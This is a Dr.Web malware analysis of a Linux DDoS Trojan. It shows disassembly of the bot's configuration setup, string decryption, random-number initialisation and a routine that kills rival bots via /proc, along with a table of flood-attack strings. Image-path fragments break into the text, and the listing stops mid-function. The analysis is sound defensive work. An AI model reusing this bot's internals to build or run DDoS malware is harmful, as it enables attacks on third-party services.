My library

+ Add to library

Contact us
24/7 Tech support | Rules regarding submitting

Send a message

Your tickets



Added to the Dr.Web virus database: 2016-05-27

Virus description added:


  • c129e2a23abe826f808725a0724f12470502a3cc - x86
  • 8fd0d16edf270c453c5b6b2481d0a044a410c7cd - ARM
  • 9ff383309ad63da2caa9580d7d85abeece9b13a0 - ARM

A Trojan for Linux designed to carry out DDoS attacks. All versions of this malicious program use the library. Before starting the cycle of receiving and executing commands, the Trojan calls the following functions:

.text:0804B378                 push    1000h           ; size
.text:0804B37D                 call    _malloc
.text:0804B382                 mov     edi, eax        ; buffer for command
.text:0804B384                 call    fillConfig
.text:0804B389                 call    init_random
.text:0804B38E                 call    runKiller
.text:0804B393                 call    fillCmdHandlersThis function uses one memory sector to store configuration information. This configuration storing can be described in the C language as follows:

union {
  char *;
  short *;
  int  *;
} conf_data;
struct conf_entry {
    uint32    number;
    conf_datadata;
    uint32    length
struct malware_config {
    conf_entry *entries;
    uint32      entries_count;

Each configuration field is filled in the following way:

Config.entries = realloc(Config.entries, 12 * Config.length + 12);
v0 = &Config.entries[Config.length];
v0->number = 0;
v1 = malloc(4u);
*v1 = XX;
v1[1] = XX;
v1[2] = XX;
v1[3] = XX;
v0->data = v1;
v2 = Config.entries;v3 = Config.length + 1;
Config.entries[Config.length].length = 4;
Config.length = v3;

Some strings are stored in an encrypted ELF file and are decrypted before being recorded:

.text:0804CA8B                 call    _realloc
.text:0804CA90                 mov     edx, ds:Config.length.text:0804CA96                 lea     edx, [edx+edx*2]
.text:0804CA99                 mov     ds:Config.entries, eax
.text:0804CA9E                 lea     esi, [eax+edx*4]
.text:0804CAA1                 mov     dword ptr [esi], 0Bh
.text:0804CAA7                 mov     [esp+1Ch+size], 49h ; size
.text:0804CAAE                 call    _malloc
.text:0804CAB3                 mov     edx, 1
.text:0804CAB8                 mov     ebx, eax
.text:0804CABA                 mov     ecx, offset unk_804FD80
.text:0804CABF                 add     esp, 10h
.text:0804CAC2 loc_804CAC2:                            ; CODE XREF: fillConfig+4D0j
.text:0804CAC2                 mov     al, [ecx].text:0804CAC4                 inc     ecx
.text:0804CAC5                 xor     eax, 0FFFFFFAFh
.text:0804CAC8                 mov     [edx+ebx-1], al
.text:0804CACC                 inc     edx
.text:0804CACD                 cmp     edx, 4Ah
.text:0804CAD0                 jnz     short loc_804CAC2
.text:0804CAD2                 mov     eax, ds:Config.length
.text:0804CAD7                 mov     ecx, ds:Config.entries
.text:0804CADD                 mov     [esi+4], ebx
.text:0804CAE0                 lea     edx, [eax+eax*2]
.text:0804CAE3                 inc     eax
.text:0804CAE4                 mov     dword ptr [ecx+edx*4+8], 49h
.text:0804CAEC                 mov     ds:Config.length, eax

the following data is saved to the examined sample’s configuration:

NumberData typeValuePurpose
0uint32Command and control server’s IP address
1uint 16port
2string'kami\x00'displayed in main on stdin upon launching the Trojan
3uint 81Sent to the server after transferring the MAC address
440x08080808not used54JR**not used
640x06400640not used
740x0300f4d1not used
8string"TSource Engine Query"cmd1 - TSource Engine DDoS
9string"/"cmd14 default page10string""cmd14 default host
11string"Mozilla/5.0 (Windows NT 6.1; WOW64; rv:41.0) Gecko/20100101 Firefox/41.0"cmd14 User Agent для запроса
12string"Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/45.0.2454.101 Safari/537.36"cmd14 User Agent для запроса
13string"Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/46.0.2490.80 Safari/537.36"cmd14 User Agent для запроса
14string"Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/46.0.2490.71 Safari/537.36"cmd14 User Agent для запроса15string"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_11) AppleWebKit/601.1.56 (KHTML, like Gecko) Version/9.0 Safari/601.1.56"not used
20string"GET "cmd14 generating requests
21string" HTTP/1.1"cmd14 generating requests
22string"Host: "cmd14 generating requests
23string"Connection: keep-alive"cmd14 generating requests
24string"User-Agent: "cmd14 generating requests
25string"Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8"cmd14 generating requests
26string"Accept-Encoding: gzip, deflate, sdch"cmd14 generating requests
27string"Accept-Language: en-US,en;q=0.8"cmd14 generating requests
28string"Cookie: "not used
29string"/proc/"used by runKiller function
30string"/exe"used by runKiller function
31string"/cwd/"used by runKiller function
33string".shinigami"used by runKiller and main functions
100string"gayfgt"used by runKiller function
101string"REPORT %s:%s"used by runKiller function
102string"hello friend "used by runKiller function
103string"[KTN]"used by runKiller function

The following functions are then used to get the configuration values:

char *get_data_from_config(int number)returns the data pointer for conf_entry with the number value
uint32 get_conf_uint32(int number)returns unit32 stored under the datapointer for conf_entry with the number value
uint16 get_conf_uint16(int number)returns unit16 stored under the data pointer for conf_entry with the number value
uint8 get_conf_uint8(int number)returns unit8 stored under the data pointer for conf_entry with the number value


This function initializes the generation of pseudo-random sequences. Linux.BackDoor.Fgt and Linux.BackDoor.Tsunami used such generators; however, their operation was implemented in a different manner.

The init_rand function from Linux.DDoS.87:

.text:080481AC init_rand       proc near               ; CODE XREF: sendUDP+249p
.text:080481AC                                         ; processCmd+1E3p ...
.text:080481AC var_4           = dword ptr -4
.text:080481AC arg_0           = dword ptr  8
.text:080481ACpush    ebp
.text:080481AD                 mov     ebp, esp
.text:080481AF                 sub     esp, 10h
.text:080481B2                 mov     eax, [ebp+arg_0]
.text:080481B5                 mov     ds:Q, eax
.text:080481BA                 mov     eax, [ebp+arg_0]
.text:080481BD                 sub     eax, 61C88647h
.text:080481C2                 mov     ds:dword_80599E4, eax
.text:080481C7mov     eax, [ebp+arg_0]
.text:080481CA                 add     eax, 3C6EF372h
.text:080481CF                 mov     ds:dword_80599E8, eax
.text:080481D4                 mov     [ebp+var_4], 3
.text:080481DB                 jmp     short loc_8048211
.text:080481DD ; ---
.text:080481DD loc_80481DD:                            ; CODE XREF: init_rand+6Cj
.text:080481DD                 mov     ecx, [ebp+var_4]
.text:080481E0                 mov     eax, [ebp+var_4]
.text:080481E3                 sub     eax, 3
.text:080481E6                 mov     edx, ds:Q[eax*4]
.text:080481ED                 mov     eax, [ebp+var_4]
.text:080481F0                 sub     eax, 2
.text:080481F3                 mov     eax, ds:Q[eax*4]
.text:080481FA                 xor     edx, eax
.text:080481FC                 mov     eax, [ebp+var_4]
.text:080481FF                 xor     eax, edx
.text:08048201                 xor     eax, 9E3779B9h
.text:08048206                 mov     ds:Q[ecx*4], eax
.text:0804820D                 add     [ebp+var_4], 1.text:08048211 loc_8048211:; CODE XREF: init_rand+2Fj
.text:08048211                 cmp     [ebp+var_4], 0FFFh
.text:08048218                 jle     short loc_80481DD
.text:0804821A                 leave
.text:0804821B                 retn
.text:0804821B init_rand       endp

Функция init_random из Linux.DDoS.87:

.text:0804C090 init_random     proc near               ; CODE XREF: main+29p
.text:0804C090                                         ; sub_804B930+CFp
.text:0804C090                 push    esi
.text:0804C091                 push    ebx
.text:0804C092                 sub     esp, 4
.text:0804C095                 call    ___libc_getpid
.text:0804C09A                 mov     esi, eax
.text:0804C09C                 call    _getppid
.text:0804C0A1                 sub     esp, 0Ch
.text:0804C0A4                 mov     ebx, eax
.text:0804C0A6                 push    0               ; time
.text:0804C0A8                 call    ___GI_time
.text:0804C0AD                 imul    ebx, eax
.text:0804C0B0                 mov     ecx, 3.text:0804C0B5                 add     esp, 10h
.text:0804C0B8                 lea     edx, [esi+ebx]
.text:0804C0BB                 mov     ds:random_gen_data, edx
.text:0804C0C1                 lea     eax, [edx-61C88647h].text:0804C0C7                 mov     ds:rand1, eax
.text:0804C0CC                 lea     eax, [edx+3C6EF372h]
.text:0804C0D2                 mov     ds:rand2, eax
.text:0804C0D7 loc_804C0D7:                            ; CODE XREF: init_random+6Fj
.text:0804C0D7                 mov     edx, ds:dword_8051694[ecx*4]
.text:0804C0DE                 mov     eax, ecx
.text:0804C0E0                 xor     eax, edx
.text:0804C0E2                 mov     edx, ds:dword_8051698[ecx*4]
.text:0804C0E9                 xor     edx, 9E3779B9h
.text:0804C0EF                 xor     eax, edx
.text:0804C0F1                 mov     ds:random_gen_data[ecx*4], eax
.text:0804C0F8                 inc     ecx
.text:0804C0F9                 cmp     ecx, 1000h
.text:0804C0FF                 jnzshort loc_804C0D7
.text:0804C101                 pop     eax
.text:0804C102                 pop     ebx
.text:0804C103                 pop     esi
.text:0804C104                 retn
.text:0804C104 init_random     endp


This function launches a child process designed to search running processes for other Trojans and terminate them. You can see a description of a child process’s operation below.

First, the process kills standard stdin, stdout, and stderr threads and retrieves the strings it needs from the configuration:

.text:0804AFAB                 push    STDIN_FILENO    ; fd
.text:0804AFAD                 call    ___libc_close
.text:0804AFB2                 mov     dword ptr [esp+0], STDERR_FILENO ; fd
.text:0804AFB9                 call    ___libc_close
.text:0804AFBE                 mov     dword ptr [esp+0], STDOUT_FILENO ; fd
.text:0804AFC5                 call    ___libc_close
.text:0804AFCA                 mov     dword ptr [esp+0], 1Dh
.text:0804AFD1                 call    get_data_from_config
.text:0804AFD6                 mov     dword ptr [esp+0], 1Eh
.text:0804AFDD                 mov     ds:proc, eax
.text:0804AFE2                 call    get_data_from_config
.text:0804AFE7                 mov     dword ptr [esp+0], 1Fh
.text:0804AFEE                 mov     ds:exe, eax
.text:0804AFF3                 call    get_data_from_config.text:0804AFF8                 mov     dword ptr [esp+0], 21h
.text:0804AFFF                 mov     ds:cwd, eax
.text:0804B004                 call    get_data_from_config
.text:0804B009                 mov     dword ptr [esp+0], 64h
.text:0804B010                 mov     ds:shinigami, eax
.text:0804B015                 call    get_data_from_config
.text:0804B01A                 mov     dword ptr [esp+0], 65h
.text:0804B021                 mov     ds:gayfgt, eax
.text:0804B026                 call    get_data_from_config
.text:0804B02B                 mov     dword ptr [esp+0], 66h
.text:0804B032                 mov     ds:report_fmt, eax
.text:0804B037                 call    get_data_from_config
.text:0804B03C                 mov     dword ptr [esp+0], 67h
.text:0804B043                 mov     ds:hello_friend, eax
.text:0804B048                 call    get_data_from_config
.text:0804B04D                 mov     ebp, ds:proc
.text:0804B053                 mov     ds:KTN, eax

Then the Trojan tries to open the following file objects:


If successful, the relevant flag is set. If not, the process terminates itself:

.text:0804B13F                 cmp     ds:couldOpenExe, 0
.text:0804B146                 jz      short loc_804B158
.text:0804B148                 lea     ebp, [esp+0A3Ch+var_226]
.text:0804B14F                 cmp     ds:couldOpenCWD, 0
.text:0804B156                 jnz     short loc_804B17E
.text:0804B158 loc_804B158:                            ; CODE XREF: runKiller+1C6j
.text:0804B158                 sub     esp, 0Ch
.text:0804B15B                 push    0               ; status
.text:0804B15D                 call    ___GI_exit

If theprocess continues operating, in five minutes it starts searching for other Trojans in order to terminate their operation by reading the content of the /proc/ folder in an infinite loop:

.text:0804B162 read_proc_from_begin:                   ; CODE XREF: runKiller+225j
.text:0804B162                 sub     esp, 0Ch
.text:0804B165                 mov     eax, [esp+0A48h+var_A34]
.text:0804B169                 push    eax
.text:0804B16A                 call    ___GI_closedir
